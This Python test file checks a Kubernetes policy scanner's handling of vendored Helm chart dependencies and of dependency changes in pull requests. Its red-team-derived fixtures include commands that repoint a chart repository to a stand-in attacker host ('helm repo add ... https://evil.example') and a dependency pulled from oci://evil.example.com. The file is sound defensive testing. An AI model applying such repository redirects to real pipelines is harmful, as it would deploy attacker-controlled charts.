"""A chart's remote (OCI) dependency whose source the repository holds beside it is rendered
with that copy, as Helm would fetch it: bitnami/charts' every chart depends on `common` from
oci://registry-1.docker.io/bitnamicharts, `version: 2.x.x`, and `bitnami/common` is it; the
charts were not rendered at all ("dependencies not vendored", session 16). A copy whose
version the constraint does not allow is not taken."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from gatekeeper.sources.helm_vendored import satisfies
from tests.conftest import Run

APP_CHART = """\
apiVersion: v2
name: app
version: 0.1.0
dependencies:
  - name: common
    repository: oci://registry.example.com/charts
    version: %s
"""
COMMON_CHART = "apiVersion: v2\nname: common\ntype: library\nversion: 2.31.10\n"
COMMON_HELPER = '{{- define "common.privileged" -}}\nprivileged: true\n{{- end -}}\n'
POD = """\
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example.com/web:1.0
      securityContext:
        {{- include "common.privileged" . | nindent 8 }}
"""


def write(root: Path, constraint: str) -> None:
    files = {
        "charts/app/Chart.yaml": APP_CHART % constraint,
        "charts/app/values.yaml": "{}\n",
        "charts/app/templates/pod.yaml": POD,
        "charts/common/Chart.yaml": COMMON_CHART,
        "charts/common/templates/_helpers.tpl": COMMON_HELPER,
    }
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)


@pytest.mark.parametrize(
    ("constraint", "rendered"), [("2.x.x", True), ("~2.31.0", True), ("3.x.x", False)]
)
def test_a_remote_dependency_copied_beside_the_chart_is_used(
    tmp_path: Path, gatekeeper: Callable[..., Run], constraint: str, rendered: bool
) -> None:
    write(tmp_path, constraint)
    run = gatekeeper("scan", str(tmp_path), "--format", "json")
    found = {
        (f["policy_id"], f["file"])
        for f in json.loads(run.stdout)["findings"]
        if f["policy_id"] in ("K8S-PSS-PRIVILEGED", "GK-RENDER-ERROR")
    }
    said = [
        (f["file"], f["severity"], f["blocking"])
        for f in json.loads(run.stdout)["findings"]
        if f["policy_id"] == "GK-NOT-EXPANDED"
    ]
    if rendered:  # taken on trust that the registry serves this copy: said, not blocking
        assert found == {("K8S-PSS-PRIVILEGED", "charts/common/templates/_helpers.tpl")}
        assert said == [("charts/app/Chart.yaml", "low", False)]
    else:
        assert found == {("GK-RENDER-ERROR", "charts/app/Chart.yaml")}


def test_a_pull_request_changing_only_the_copy_judges_the_chart_again(
    tmp_path: Path, gatekeeper: Callable[..., Run]
) -> None:
    import subprocess

    def git(*args: str) -> None:
        subprocess.run(
            ["git", "-c", "user.email=a@b", "-c", "user.name=a", *args],
            cwd=tmp_path, check=True, capture_output=True,
        )  # fmt: skip

    write(tmp_path, "2.x.x")
    (tmp_path / "charts/common/templates/_helpers.tpl").write_text(
        COMMON_HELPER.replace("true", "false")
    )
    git("init", "-q")
    git("add", "-A")
    git("commit", "-qm", "base")
    git("branch", "base")
    (tmp_path / "charts/common/templates/_helpers.tpl").write_text(COMMON_HELPER)
    git("commit", "-qam", "common: privileged")
    run = gatekeeper("scan", "--base", "base", "--format", "json", cwd=tmp_path)
    new = [
        f["file"]
        for f in json.loads(run.stdout)["findings"]
        if f["policy_id"] == "K8S-PSS-PRIVILEGED" and f["status"] == "new"
    ]
    assert new == ["charts/common/templates/_helpers.tpl"]


def test_helm_dependency_constraints() -> None:
    assert satisfies("2.x.x", "2.31.10") and not satisfies("2.x.x", "3.0.0")
    assert satisfies(">= 1.2, < 3", "2.0.0") and not satisfies("^1.2", "2.0.0")
    assert satisfies("1.x || 2.x", "2.1.0") and not satisfies("not a range", "1.0.0")


def test_a_dependency_a_change_adds_judged_from_a_copy_blocks(tmp_path: Path) -> None:
    """A pull request adding a dependency on a registry of its own, with a harmless copy
    beside the chart: the copy is judged, the registry's chart deployed. Trusting that
    registry is the base's decision: the notice blocks when the base's Chart.yaml lacks the
    dependency from that repository, and stays low when it had it."""
    from gatekeeper.change import scan_change
    from tests.test_change import Repo

    notes = []
    for had_it in (False, True):
        repo = Repo(tmp_path / str(had_it))
        write(repo.root, "2.x.x")
        if not had_it:  # the base chart has no dependency at all
            chart = repo.root / "charts/app/Chart.yaml"
            chart.write_text(APP_CHART.split("dependencies:")[0])
            (repo.root / "charts/app/templates/pod.yaml").write_text(
                POD.replace('{{- include "common.privileged" . | nindent 8 }}', "{}")
            )
        repo.commit("base")
        repo.branch("pr")
        write(repo.root, "2.x.x")
        repo.write("charts/common/README.md", "the pull request's copy\n")
        repo.commit("pr")
        found = scan_change(repo.root, "main").verdict.findings
        notes.append(
            sorted(
                (f.policy_id, f.file, f.blocking)
                for f in found
                if f.policy_id in ("GK-NOT-EXPANDED", "GK-LOCAL-NOT-EXPANDED")
                and "dependency common" in f.message
            )
        )
    chart = "charts/app/Chart.yaml"
    assert notes == [
        [("GK-LOCAL-NOT-EXPANDED", chart, True)],
        [("GK-NOT-EXPANDED", chart, False)],
    ]


@pytest.mark.parametrize("edit", ["version", "requirements", "alias", "computed", "none"])
def test_a_dependency_s_constraint_or_requirements_yaml_a_change_writes_blocks(
    tmp_path: Path, edit: str
) -> None:
    """The copy judged must be what Helm pulls (red team s17 y02): a pull request that keeps
    the dependency's name and registry but widens its version constraint (Helm takes the
    newest the registry serves, not the copy), or declares a new one in requirements.yaml
    (Helm 3 reads it for every chart), or points the repository name it uses (`@acme`) at
    another URL (`helm repo add acme URL` in a file it changes), is blocking as a new
    dependency is; a change that leaves the dependencies as they were is not."""
    from gatekeeper.change import scan_change
    from tests.test_change import Repo

    repo = Repo(tmp_path)
    write(repo.root, "2.x.x")
    chart = repo.root / "charts/app/Chart.yaml"
    chart.write_text(chart.read_text().replace("oci://registry.example.com/charts", '"@acme"'))
    repo.write("ci/deploy.sh", "helm repo add acme https://charts.example.com\n")
    computed = 'URL=%s\nhelm repo add acme "$URL"\n'  # (session 17: the change moves $URL)
    if edit == "computed":
        repo.write("ci/deploy.sh", computed % "https://charts.example.com")
    repo.commit("base")
    repo.branch("pr")
    if edit == "alias":
        repo.write("ci/deploy.sh", "helm repo add --force-update acme https://evil.example\n")
    if edit == "computed":
        repo.write("ci/deploy.sh", computed % "https://evil.example")
    if edit == "version":
        chart.write_text(chart.read_text().replace("2.x.x", '">=2.0.0"'))
    elif edit == "requirements":
        repo.write(
            "charts/app/requirements.yaml",
            "dependencies:\n  - name: extra\n    repository: oci://evil.example.com/charts\n"
            "    version: 1.x.x\n",
        )
        repo.write("charts/extra/Chart.yaml", "apiVersion: v2\nname: extra\nversion: 1.0.0\n")
    repo.write("charts/common/README.md", "the pull request's copy\n")
    repo.commit("pr")
    found = scan_change(repo.root, "main").verdict.findings
    blocking = sorted(
        (f.file, f.line, f.message.split(" and ")[0].rstrip(","))
        for f in found
        if f.policy_id == "GK-LOCAL-NOT-EXPANDED" and f.blocking
    )
    expected = {
        "version": [
            (
                "charts/app/Chart.yaml",
                5,
                "dependency common from @acme asks for version >=2.0.0 (the base: 2.x.x)",
            )
        ],
        "requirements": [
            (
                "charts/app/requirements.yaml",
                2,
                "dependency extra from oci://evil.example.com/charts is new in this change",
            )
        ],
        "alias": [
            (
                "charts/app/Chart.yaml",
                5,
                "dependency common from @acme is judged from this repository's copy beside the"
                " chart",
            )
        ],
        "none": [],
    }
    expected["computed"] = expected["alias"]
    assert blocking == expected[edit]
